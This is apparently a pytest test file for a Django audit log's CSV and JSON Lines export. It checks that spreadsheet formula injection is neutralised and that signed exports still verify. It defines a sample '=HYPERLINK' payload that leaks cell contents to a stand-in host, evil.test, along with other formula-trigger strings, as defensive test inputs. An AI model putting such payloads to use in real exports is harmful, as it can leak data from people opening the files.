"""CSV export: no cell is a spreadsheet formula (OWASP "CSV Injection"); JSONL stays exact."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import RequestFactory
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit import chain, export, record
from audit.models import AuditEvent
from tests.strategies_audit import FORMULA_TRIGGERS, formula_texts, rolled_back

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A2,"Click for details")'


def keys(settings: Any) -> dict[str, bytes]:
    return {k: v.encode() for k, v in settings.SECURE_SSO_AUDIT["SIGNING_KEYS"].items()}


def csv_of(items: Any) -> str:
    stream = io.StringIO()
    export.write_csv(items, stream)
    return stream.getvalue()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def is_formula(cell: str) -> bool:
    """What a spreadsheet might evaluate: a trigger first, or first after leading blanks."""
    return cell[:1] in FORMULA_TRIGGERS or cell.lstrip()[:1] in FORMULA_TRIGGERS


class TestNeutralised:
    def test_user_agent_hyperlink(self) -> None:
        """The review's case: a User-Agent of =HYPERLINK(...) is text in the CSV."""
        request = RequestFactory().get("/", HTTP_USER_AGENT=HYPERLINK)
        record("app.thing", request=request)
        [row] = cells(csv_of(export.events()))
        assert row["user_agent"] == "'" + HYPERLINK

    @pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
    def test_each_trigger(self, trigger: str) -> None:
        """=, +, -, @, tab, CR and LF first in a cell each get a leading quote."""
        record("app.thing", reason=f"{trigger}1+1", issuer=f"{trigger}cmd", subject=trigger)
        [row] = cells(csv_of(export.events()))
        assert (row["reason"], row["issuer"], row["subject"]) == (
            f"'{trigger}1+1", f"'{trigger}cmd", f"'{trigger}")

    @pytest.mark.parametrize("text", [" =1+1", "  @SUM(A1)", "\u00a0-2+3", " \t=x"])
    def test_after_leading_blanks(self, text: str) -> None:
        """A trigger after leading blanks (which some importers trim) is neutralised too."""
        record("app.thing", reason=text)
        [row] = cells(csv_of(export.events()))
        assert row["reason"] == "'" + text

    def test_owasp_examples(self) -> None:
        """OWASP's two examples come out exactly as its page shows them."""
        assert export.csv_cell('=1+2";=1+2') == "'=1+2\";=1+2"
        record("app.thing", reason='=1+2";=1+2', issuer="=1+2'\" ;,=1+2")
        line = csv_of(export.events()).splitlines()[1]
        assert '"\'=1+2"";=1+2"' in line and '"\'=1+2\'"" ;,=1+2"' in line

    def test_every_cell_quoted(self) -> None:
        """Each cell is quoted: a ';' inside one cannot start a cell where ';' separates."""
        record("app.thing", reason="a;=1+1")
        header, first = csv_of(export.events()).splitlines()
        assert header == ",".join(f'"{name}"' for name in export.FIELDS)
        assert first.startswith('"1","') and '"a;=1+1"' in first

    @pytest.mark.parametrize("value", ["", "Mozilla/5.0", "auth.login.success", "{}", "0",
                                       "'=already quoted", None, 7])
    def test_other_cells_unchanged(self, value: Any) -> None:
        """Cells without a trigger are written as they are (None as empty)."""
        assert export.csv_cell(value) == ("" if value is None else str(value))


class TestJsonlExact:
    def test_jsonl_keeps_the_formula_and_verifies(self, settings: Any) -> None:
        """JSON Lines keeps the stored value byte for byte, and verifies offline."""
        request = RequestFactory().get("/", HTTP_USER_AGENT=HYPERLINK)
        record("app.thing", request=request, reason="-1", note="@x")
        stream = io.StringIO()
        export.write_jsonl(export.events(), stream)
        [line] = json.loads(f"[{stream.getvalue().strip()}]")
        assert (line["user_agent"], line["reason"], line["details"]) == (
            HYPERLINK, "-1", {"note": "@x"})
        loaded = export.load_jsonl(stream.getvalue().splitlines())
        assert chain.verify_events(loaded, keys=keys(settings)).ok


_events = st.lists(
    st.fixed_dictionaries({
        "reason": formula_texts | st.text(max_size=20),
        "issuer": st.none() | formula_texts,
        "subject": st.none() | formula_texts,
        "user_agent": formula_texts | st.text(max_size=20),
        "username": st.none() | formula_texts.filter(lambda t: t.strip()),
        "note": formula_texts,
    }),
    min_size=1, max_size=4,
)


class TestProperties:
    @settings(max_examples=40, deadline=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture,
                                     HealthCheck.too_slow])
    @given(_events)
    def test_no_formula_cell_and_jsonl_verifies(
        self, settings: Any, django_user_model: Any, calls: list[dict[str, Any]]
    ) -> None:
        """Whatever text events carry, no CSV cell starts a formula, and the JSON Lines
        export of the same events holds the stored values exactly and verifies."""
        with rolled_back():
            for n, call in enumerate(calls):
                user = None
                if call["username"] is not None:
                    user = django_user_model.objects.create_user(f"{call['username']}{n}")
                request = RequestFactory().get("/", HTTP_USER_AGENT=call["user_agent"])
                record("app.thing", request=request, user=user, reason=call["reason"],
                       issuer=call["issuer"], subject=call["subject"], note=call["note"])
            text = csv_of(export.events())
            stream = io.StringIO()
            export.write_jsonl(export.events(), stream)
            stored = [export.row(event) for event in AuditEvent.objects.order_by("seq")]
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == len(calls) + 1
        for row in rows:
            for cell in row:
                assert not is_formula(cell), cell
        # One event per "\n" (JSON escapes \n and \r; str.splitlines() would also split
        # at a raw U+0085 or U+2028 inside a string).
        lines = stream.getvalue().split("\n")[:-1]
        assert [json.loads(line) for line in lines] == stored
        result = chain.verify_events(export.load_jsonl(lines), keys=keys(settings))
        assert result.ok and result.checked == len(calls)
